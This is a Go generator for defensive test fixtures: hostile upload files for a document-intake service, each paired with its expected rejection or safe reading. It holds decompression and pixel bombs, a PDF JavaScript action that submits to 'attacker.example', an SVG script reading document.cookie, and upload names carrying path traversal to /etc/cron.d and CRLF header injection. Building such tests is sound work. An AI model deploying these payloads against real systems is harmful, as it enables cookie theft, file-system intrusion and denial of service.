// Command hostile writes testdata/hostile: small files an attacker, a
// broken phone or a confused agent may upload, and expected.json, the
// outcome each must get (see testdata/hostile/README.md). The output is
// deterministic: run it again and git diff shows nothing.
//
//	go run ./testdata/gen/hostile -out testdata/hostile
package main

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"log"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"

	"coffre/testdata/gen/pdfbuild"
)

// Case is one entry of expected.json.
type Case struct {
	File string `json:"file"`
	// UploadName is the multipart filename to send, when it differs from
	// File (names with "../" or control characters cannot be files).
	UploadName string `json:"upload_name,omitempty"`
	What       string `json:"what"`
	// Code is the coffre error code intake.Open must return, "" when the
	// file must be accepted; Mime is then the type it must be read as.
	Code string `json:"code"`
	Mime string `json:"mime,omitempty"`
	// Message is the start of the French message the user must get.
	Message string `json:"message,omitempty"`
	// Upload is the HTTP status of POST /api/v1/documents when the
	// upload itself is refused (then its French error contains
	// UploadMessage), 0 when it is accepted (202) and the workers decide
	// (then the document ends failed with Message, or read as Mime).
	Upload        int    `json:"upload,omitempty"`
	UploadMessage string `json:"upload_message,omitempty"`
}

const (
	msgEmpty     = "Le fichier est vide"
	msgCorrupt   = "Le fichier est illisible ou abîmé"
	msgEncrypted = "Le PDF est protégé par un mot de passe"
	msgImageBig  = "L'image de la page 1 est trop grande"
	msgTooLarge  = "Le fichier est trop volumineux pour être traité"
	msgPages     = "Le document dépasse la limite de 20 pages"
	msgType      = "Type de fichier non pris en charge"
)

func main() {
	out := flag.String("out", "testdata/hostile", "output directory")
	heicFixture := flag.String("heic", "intake/testdata/tiny.heic", "a valid HEIC to truncate")
	flag.Parse()
	if err := os.MkdirAll(*out, 0o755); err != nil {
		log.Fatal(err)
	}
	heicData, err := os.ReadFile(*heicFixture)
	if err != nil {
		log.Fatal(err)
	}
	var cases []Case
	add := func(c Case, data []byte) {
		if err := os.WriteFile(filepath.Join(*out, c.File), data, 0o644); err != nil {
			log.Fatal(err)
		}
		cases = append(cases, c)
	}

	photo := encodeJPEG(page(240, 160))
	pngPhoto := encodePNG(page(240, 160))
	textPDF := textPagePDF("")

	// Empty and truncated files.
	add(Case{File: "empty.jpg", What: "0 bytes", Code: "empty", Message: msgEmpty,
		Upload: 400, UploadMessage: "Le fichier 1 est vide"}, nil)
	add(Case{File: "truncated.jpg", What: "a JPEG cut in the middle of its scan data", Code: "corrupt", Message: msgCorrupt}, photo[:len(photo)/2])
	add(Case{File: "jpeg-header-only.jpg", What: "the first 20 bytes of a JPEG (SOI, APP0)", Code: "corrupt", Message: msgCorrupt}, photo[:20])
	add(Case{File: "truncated.png", What: "a PNG cut in the middle of its IDAT", Code: "corrupt", Message: msgCorrupt}, pngPhoto[:len(pngPhoto)/2])
	add(Case{File: "truncated.pdf", What: "a PDF cut before its xref and trailer", Code: "corrupt", Message: msgCorrupt}, textPDF[:len(textPDF)*2/3])
	add(Case{File: "truncated.heic", What: "a HEIC cut in the middle of its image data", Code: "corrupt", Message: msgCorrupt}, heicData[:len(heicData)/2])

	// Decompression and pixel bombs.
	add(Case{File: "png-bomb-50000x50000.png", What: "a PNG whose header claims 50,000 × 50,000 gray pixels (2.5 gigapixels), with the first rows' data", Code: "too_large", Message: msgImageBig + " (50000 × 50000 pixels)"}, pngBomb(50000, 50000))
	add(Case{File: "jpeg-bomb-65500x65500.jpg", What: "a JPEG whose SOF claims 65,500 × 65,500 pixels", Code: "too_large", Message: msgImageBig + " (65500 × 65500 pixels)"}, jpegDims(photo, 65500, 65500))
	add(Case{File: "tiff-bomb-50000x50000.tif", What: "a TIFF whose IFD claims 50,000 × 50,000 pixels in one strip of 8 bytes", Code: "too_large", Message: msgImageBig + " (50000 × 50000 pixels)"}, tiffBomb(50000, 50000))
	add(Case{File: "webp-bomb-16000x16000.webp", What: "a WebP whose VP8X header claims a 16,000 × 16,000 canvas", Code: "too_large", Message: msgImageBig + " (16000 × 16000 pixels)"}, webpBomb(16000, 16000))
	add(Case{File: "pdf-image-50000x50000.pdf", What: "a PDF page drawing an image dictionary of 50,000 × 50,000 with 4 bytes of data", Code: "too_large", Message: msgImageBig + " (50000 × 50000 pixels)"},
		imagePDF("/Width 50000 /Height 50000 /ColorSpace /DeviceGray /BitsPerComponent 8", []byte("tiny")))
	add(Case{File: "pdf-flate-bomb-image.pdf", What: "a PDF image of 1000 × 1000 whose stream, deflated twice, inflates to 1 GiB", Code: "too_large", Message: msgTooLarge},
		imagePDF("/Width 1000 /Height 1000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode]", deflate(deflateZeros(1<<30))))
	add(Case{File: "pdf-flate-bomb-content.pdf", What: "a PDF page whose content stream, deflated twice, inflates to 1 GiB", Code: "too_large", Message: msgTooLarge},
		pdfbuild.Build(
			[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
			[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
			[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"),
			pdfbuild.Stream("/Filter [/FlateDecode /FlateDecode]", deflate(deflateZeros(1<<30)))))
	add(Case{File: "pdf-100000-pages.pdf", What: "a PDF whose page tree claims /Count 100000", Code: "too_large", Message: msgPages}, manyPages(1, 100000))
	add(Case{File: "pdf-25-pages.pdf", What: "a PDF of 25 real pages, over the 20-page budget", Code: "too_large", Message: msgPages}, manyPages(25, 25))
	add(Case{File: "pdf-deep-nesting.pdf", What: "a PDF whose page holds an array nested 100,000 deep: parsed without recursion, read as one blank page", Mime: "application/pdf"}, deepPDF(100000))
	add(Case{File: "pdf-deep-page-tree.pdf", What: "a PDF whose page tree nests 1000 /Pages nodes", Code: "corrupt", Message: msgCorrupt}, deepPageTree(1000))
	add(Case{File: "pdf-xref-loop.pdf", What: "a PDF whose trailer /Prev points to its own xref section", Code: "corrupt", Message: msgCorrupt}, xrefLoop(textPDF))
	add(Case{File: "tiff-30-pages.tif", What: "a TIFF chaining 30 IFDs, over the 20-page budget", Code: "too_large", Message: msgPages}, tiffChain(30, false))
	add(Case{File: "tiff-ifd-loop.tif", What: "a TIFF whose IFD chain points back to itself", Code: "corrupt", Message: msgCorrupt}, tiffChain(3, true))

	// PDFs with active or protected content.
	add(Case{File: "encrypted-user-password.pdf", What: "an AES-256 encrypted PDF that needs a password to open", Code: "corrupt", Message: msgEncrypted}, encrypt(textPDF, "secret"))
	add(Case{File: "encrypted-owner-only.pdf", What: "a PDF encrypted with an owner password only (opens without one), as official PDFs often are", Mime: "application/pdf"}, encrypt(textPDF, ""))
	add(Case{File: "javascript.pdf", What: "a born-digital PDF with an /OpenAction and a page /AA running JavaScript: read for its text, the script is never run", Mime: "application/pdf"},
		textPagePDF("/OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >>"))

	// Polyglots: the leading signature decides, and a JPEG is only a JPEG.
	add(Case{File: "polyglot-jpeg-zip.jpg", What: "a JPEG followed by a ZIP archive (a valid JPEG and a valid ZIP)", Mime: "image/jpeg"}, append(bytes.Clone(photo), zipArchive()...))
	add(Case{File: "polyglot-jpeg-html.jpg", What: "a JPEG carrying an HTML page with a <script> in a COM segment", Mime: "image/jpeg"}, jpegWithComment(photo, htmlPage))

	// Not a type coffre reads, whatever the name says.
	add(Case{File: "html-named.jpg", What: "an HTML page with a <script>, named .jpg", Code: "unsupported", Message: msgType + " (html)",
		Upload: 415, UploadMessage: msgType + " (html)"}, []byte(htmlPage))
	add(Case{File: "image.svg", What: "an SVG image with a <script>", Code: "unsupported", Message: msgType + " (svg)",
		Upload: 415, UploadMessage: msgType + " (svg)"}, []byte(svgImage))
	add(Case{File: "svg-named.jpg", What: "the same SVG, named .jpg", Code: "unsupported", Message: msgType + " (svg)",
		Upload: 415, UploadMessage: msgType + " (svg)"}, []byte(svgImage))
	add(Case{File: "program-pe.jpg", What: "a Windows executable (MZ/PE header), named .jpg", Code: "unsupported", Message: msgType + " (exe)",
		Upload: 415, UploadMessage: msgType + " (exe)"}, peExecutable())
	add(Case{File: "program-elf.jpg", What: "a Linux executable (ELF header), named .jpg", Code: "unsupported", Message: msgType,
		Upload: 415, UploadMessage: msgType}, elfExecutable())
	add(Case{File: "zip-named.pdf", What: "a ZIP archive holding a PDF, named .pdf", Code: "unsupported", Message: msgType + " (zip)",
		Upload: 415, UploadMessage: msgType + " (zip)"}, zipArchive())
	add(Case{File: "text-named.pdf", What: "plain text, named .pdf", Code: "unsupported", Message: msgType + " (txt)",
		Upload: 415, UploadMessage: msgType + " (txt)"}, []byte("Avis d'impôt 2025\nRevenu fiscal de référence : 12 345 €\n"))
	add(Case{File: "animated.gif", What: "a GIF (not an accepted photo format)", Code: "unsupported", Message: msgType + " (gif)",
		Upload: 415, UploadMessage: msgType + " (gif)"}, encodeGIF())

	// Valid photos with hostile names or metadata: the name is never used.
	add(Case{File: "jpeg-bad-exif.jpg", What: "a JPEG whose EXIF IFD offsets point past the end of the file", Mime: "image/jpeg"}, badEXIF(photo))
	add(Case{File: "name-traversal.jpg", UploadName: "../../../../etc/cron.d/avis.jpg", What: "a valid JPEG uploaded under a name with ../", Mime: "image/jpeg"}, encodeJPEG(page(240, 161)))
	add(Case{File: "name-control.jpg", UploadName: "avis\x01\x07\x1b[31m\x7f.jpg", What: "a valid JPEG uploaded under a name with control characters (SOH, BEL, ESC, DEL): Go's multipart reader refuses the part's header", Mime: "image/jpeg",
		Upload: 400, UploadMessage: "Envoi incomplet ou mal formé"}, encodeJPEG(page(240, 162)))
	add(Case{File: "name-tab-bidi.jpg", UploadName: "avis\t\u202egpj.exe", What: "a valid JPEG uploaded under a name with a TAB and a right-to-left override (shown as avis\texe.jpg)", Mime: "image/jpeg"}, encodeJPEG(page(240, 164)))
	add(Case{File: "name-crlf.jpg", UploadName: "avis.jpg\r\nContent-Type: text/html", What: "a valid JPEG uploaded under a name with CR LF, which cuts the part's header: the part has no name and is ignored", Mime: "image/jpeg",
		Upload: 400, UploadMessage: "Aucun fichier reçu"}, encodeJPEG(page(240, 163)))

	b, err := json.MarshalIndent(cases, "", "  ")
	if err != nil {
		log.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(*out, "expected.json"), append(b, '\n'), 0o644); err != nil {
		log.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(*out, "README.md"), readme(cases), 0o644); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("%d files in %s\n", len(cases), *out)
}

// readme is the manifest for people: each file and what the user gets.
func readme(cases []Case) []byte {
	var b bytes.Buffer
	b.WriteString(`# testdata/hostile — files an upload must survive

Written by ` + "`go run ./testdata/gen/hostile -out testdata/hostile`" + ` (do not edit: edit
the generator). Deterministic except the two encrypted PDFs, whose salts
pdfcpu draws at random. ` + "`expected.json`" + ` is the machine-readable manifest;
` + "`intake/hostile_test.go`" + ` opens each file (code, French message, time,
memory) and ` + "`cmd/coffre/hostile_test.go`" + ` uploads each to a real ` + "`coffre serve`" + `,
plus a 200 MB upload generated at test time (never committed), which must
get ` + "`413`" + ` « Le fichier 1 dépasse 50 Mo ».

A file is either refused at upload (HTTP status and French error), or
accepted (` + "`202`" + `) and then ends ` + "`failed`" + ` with the error of its code, or is read
(a valid file under a hostile name or wrapper: the JavaScript of a PDF is
never run, a polyglot is read as the JPEG it starts as, never as a ZIP or
a web page).

| file | what it is | code | the user gets |
|---|---|---|---|
`)
	for _, c := range cases {
		code, got := c.Code, ""
		if code == "" {
			code = "—"
			got = "read as " + c.Mime
		} else {
			got = "« " + c.Message + " … »"
		}
		if c.Upload != 0 {
			got = fmt.Sprintf("%d at upload: « …%s… »", c.Upload, c.UploadMessage)
		}
		name := "`" + c.File + "`"
		if c.UploadName != "" {
			name += fmt.Sprintf(" sent as %q", c.UploadName)
		}
		fmt.Fprintf(&b, "| %s | %s | %s | %s |\n", name, strings.ReplaceAll(c.What, "|", "\\|"), code, got)
	}
	return b.Bytes()
}

const htmlPage = "<!DOCTYPE html><html><head><title>avis</title></head><body><script>fetch('/api/v1/documents').then(r=>r.text()).then(alert)</script></body></html>\n"

const svgImage = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 200 100">
<script type="text/javascript">alert(document.cookie)</script>
<text x="10" y="50">Avis d'impôt 2025</text>
</svg>
`

// page is a light image with dark bands, small so that OCR is quick.
func page(w, h int) *image.Gray {
	g := image.NewGray(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			v := uint8(235)
			if (y/12)%3 == 1 && x > 20 && x < w-20 && (x/7)%4 != 0 {
				v = 30
			}
			g.SetGray(x, y, color.Gray{v})
		}
	}
	return g
}

func encodeJPEG(img image.Image) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: 80}); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

func encodePNG(img image.Image) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

func encodeGIF() []byte {
	var b bytes.Buffer
	pal := image.NewPaletted(image.Rect(0, 0, 16, 16), color.Palette{color.White, color.Black})
	if err := gif.EncodeAll(&b, &gif.GIF{Image: []*image.Paletted{pal, pal}, Delay: []int{10, 10}}); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

func deflate(data []byte) []byte {
	var b bytes.Buffer
	w, _ := zlib.NewWriterLevel(&b, zlib.BestCompression)
	w.Write(data)
	w.Close()
	return b.Bytes()
}

// deflateZeros deflates n zero bytes without holding them.
func deflateZeros(n int) []byte {
	var b bytes.Buffer
	w, _ := zlib.NewWriterLevel(&b, zlib.BestCompression)
	chunk := make([]byte, 1<<20)
	for ; n > 0; n -= len(chunk) {
		w.Write(chunk[:min(n, len(chunk))])
	}
	w.Close()
	return b.Bytes()
}

func pngChunk(out []byte, typ string, data []byte) []byte {
	out = binary.BigEndian.AppendUint32(out, uint32(len(data)))
	body := append([]byte(typ), data...)
	out = append(out, body...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(body))
}

// pngBomb is a w×h 8-bit gray PNG header followed by the data of its
// first rows (a real encoder would go on for 2.5 GB of pixels).
func pngBomb(w, h uint32) []byte {
	ihdr := binary.BigEndian.AppendUint32(nil, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	ihdr = append(ihdr, 8, 0, 0, 0, 0)
	out := pngChunk([]byte("\x89PNG\r\n\x1a\n"), "IHDR", ihdr)
	out = pngChunk(out, "IDAT", deflateZeros(64*int(w+1)))
	return pngChunk(out, "IEND", nil)
}

// jpegDims patches the frame header (SOF0) of jpg to claim w×h.
func jpegDims(jpg []byte, w, h uint16) []byte {
	out := bytes.Clone(jpg)
	i := bytes.Index(out, []byte{0xFF, 0xC0})
	if i < 0 {
		log.Fatal("no SOF0")
	}
	binary.BigEndian.PutUint16(out[i+5:], h)
	binary.BigEndian.PutUint16(out[i+7:], w)
	return out
}

// tiffBomb is a little-endian TIFF with one 8-bit gray IFD of w×h.
func tiffBomb(w, h uint32) []byte {
	type entry struct {
		tag, typ uint16
		val      uint32
	}
	entries := []entry{
		{256, 4, w}, {257, 4, h}, {258, 3, 8}, {259, 3, 1}, {262, 3, 1},
		{273, 4, 8}, {277, 3, 1}, {278, 4, h}, {279, 4, 8},
	}
	out := []byte{'I', 'I', 42, 0}
	ifd := uint32(16)
	out = binary.LittleEndian.AppendUint32(out, ifd)
	out = append(out, make([]byte, 8)...) // the "strip": 8 bytes
	out = binary.LittleEndian.AppendUint16(out, uint16(len(entries)))
	for _, e := range entries {
		out = binary.LittleEndian.AppendUint16(out, e.tag)
		out = binary.LittleEndian.AppendUint16(out, e.typ)
		out = binary.LittleEndian.AppendUint32(out, 1)
		if e.typ == 3 {
			out = binary.LittleEndian.AppendUint16(out, uint16(e.val))
			out = append(out, 0, 0)
		} else {
			out = binary.LittleEndian.AppendUint32(out, e.val)
		}
	}
	return binary.LittleEndian.AppendUint32(out, 0)
}

// tiffChain is a TIFF of n empty IFDs; loop makes the last point back to
// the first.
func tiffChain(n int, loop bool) []byte {
	out := []byte{'I', 'I', 42, 0}
	out = binary.LittleEndian.AppendUint32(out, 8)
	for i := range n {
		out = binary.LittleEndian.AppendUint16(out, 0) // no entries
		next := uint32(8 + 6*(i+1))
		if i == n-1 {
			next = 0
			if loop {
				next = 8
			}
		}
		out = binary.LittleEndian.AppendUint32(out, next)
	}
	return out
}

// webpBomb is a RIFF WebP whose VP8X chunk claims a w×h canvas.
func webpBomb(w, h uint32) []byte {
	vp8x := []byte{0, 0, 0, 0}
	vp8x = append(vp8x, byte(w-1), byte((w-1)>>8), byte((w-1)>>16))
	vp8x = append(vp8x, byte(h-1), byte((h-1)>>8), byte((h-1)>>16))
	body := []byte("WEBPVP8X")
	body = binary.LittleEndian.AppendUint32(body, uint32(len(vp8x)))
	body = append(body, vp8x...)
	out := []byte("RIFF")
	out = binary.LittleEndian.AppendUint32(out, uint32(len(body)))
	return append(out, body...)
}

// textPagePDF is a one-page born-digital avis; catalogExtra goes in the
// catalog, and object 5 is a JavaScript action the page also runs on open.
func textPagePDF(catalogExtra string) []byte {
	content := "BT /F1 12 Tf 72 760 Td (Avis d'impot 2025 sur les revenus de l'annee 2024) Tj 0 -18 Td (Revenu fiscal de reference : 23 456 euros) Tj 0 -18 Td (Numero fiscal : 12 34 567 890 123) Tj ET"
	aa := ""
	if catalogExtra != "" {
		aa = " /AA << /O 5 0 R >>"
	}
	return pdfbuild.Build(
		[]byte("<< /Type /Catalog /Pages 2 0 R "+catalogExtra+" >>"),
		[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
		[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Contents 4 0 R"+aa+" >>"),
		pdfbuild.Stream("", []byte(content)),
		[]byte("<< /Type /Action /S /JavaScript /JS (app.alert\\('coffre'\\); this.submitForm\\('http://attacker.example/'\\);) >>"),
	)
}

// imagePDF is a one-page PDF drawing one image XObject.
func imagePDF(imageDict string, data []byte) []byte {
	return pdfbuild.Build(
		[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
		[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
		[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>"),
		pdfbuild.Stream("", []byte("q 500 0 0 700 40 60 cm /Im1 Do Q")),
		pdfbuild.Stream("/Type /XObject /Subtype /Image "+imageDict, data),
	)
}

// manyPages builds n empty pages under a root whose /Count claims count.
func manyPages(n, count int) []byte {
	var kids []byte
	objs := [][]byte{[]byte("<< /Type /Catalog /Pages 2 0 R >>"), nil}
	for i := range n {
		kids = fmt.Appendf(kids, "%d 0 R ", i+3)
		objs = append(objs, []byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"))
	}
	objs[1] = fmt.Appendf(nil, "<< /Type /Pages /Kids [%s] /Count %d >>", kids, count)
	return pdfbuild.Build(objs...)
}

// deepPDF nests depth arrays in the page dictionary.
func deepPDF(depth int) []byte {
	deep := strings.Repeat("[", depth) + strings.Repeat("]", depth)
	return pdfbuild.Build(
		[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
		[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
		[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Deep "+deep+" >>"),
	)
}

// deepPageTree chains depth /Pages nodes down to a single page.
func deepPageTree(depth int) []byte {
	objs := [][]byte{[]byte("<< /Type /Catalog /Pages 2 0 R >>")}
	for i := range depth {
		n, parent := i+2, ""
		if i > 0 {
			parent = fmt.Sprintf("/Parent %d 0 R ", n-1)
		}
		objs = append(objs, fmt.Appendf(nil, "<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>", parent, n+1))
	}
	objs = append(objs, fmt.Appendf(nil, "<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>", depth+1))
	return pdfbuild.Build(objs...)
}

// xrefLoop adds /Prev pointing to the file's own xref section.
func xrefLoop(pdf []byte) []byte {
	i := bytes.LastIndex(pdf, []byte("startxref\n"))
	var off int
	fmt.Sscanf(string(pdf[i+len("startxref\n"):]), "%d", &off)
	return bytes.Replace(pdf, []byte("/Root 1 0 R >>"), fmt.Appendf(nil, "/Root 1 0 R /Prev %d >>", off), 1)
}

func encrypt(pdf []byte, userPW string) []byte {
	api.DisableConfigDir()
	var b bytes.Buffer
	conf := model.NewAESConfiguration(userPW, "owner-secret", 256)
	if err := api.Encrypt(bytes.NewReader(pdf), &b, conf); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

func zipArchive() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, _ := z.CreateHeader(&zip.FileHeader{Name: "avis.pdf", Method: zip.Deflate, Modified: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)})
	w.Write([]byte("%PDF-1.4 not really a PDF\n"))
	if err := z.Close(); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// jpegWithComment inserts a COM segment holding text after SOI.
func jpegWithComment(jpg []byte, text string) []byte {
	seg := binary.BigEndian.AppendUint16([]byte{0xFF, 0xFE}, uint16(len(text)+2))
	out := append(bytes.Clone(jpg[:2]), seg...)
	out = append(out, text...)
	return append(out, jpg[2:]...)
}

// badEXIF inserts an APP1 EXIF whose IFD0 offset is far past the end.
func badEXIF(jpg []byte) []byte {
	tiff := []byte{'M', 'M', 0, 42, 0x7F, 0xFF, 0xFF, 0xF0, 0, 0}
	payload := append([]byte("Exif\x00\x00"), tiff...)
	seg := binary.BigEndian.AppendUint16([]byte{0xFF, 0xE1}, uint16(len(payload)+2))
	out := append(bytes.Clone(jpg[:2]), seg...)
	out = append(out, payload...)
	return append(out, jpg[2:]...)
}

// peExecutable is the DOS stub and PE header of a Windows program.
func peExecutable() []byte {
	out := make([]byte, 512)
	copy(out, "MZ")
	binary.LittleEndian.PutUint32(out[0x3C:], 0x80)
	copy(out[0x4E:], "This program cannot be run in DOS mode.\r\r\n$")
	copy(out[0x80:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(out[0x84:], 0x8664) // x86-64
	return out
}

// elfExecutable is the header of a 64-bit Linux executable.
func elfExecutable() []byte {
	out := make([]byte, 256)
	copy(out, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(out[16:], 2)  // ET_EXEC
	binary.LittleEndian.PutUint16(out[18:], 62) // x86-64
	binary.LittleEndian.PutUint32(out[20:], 1)
	return out
}
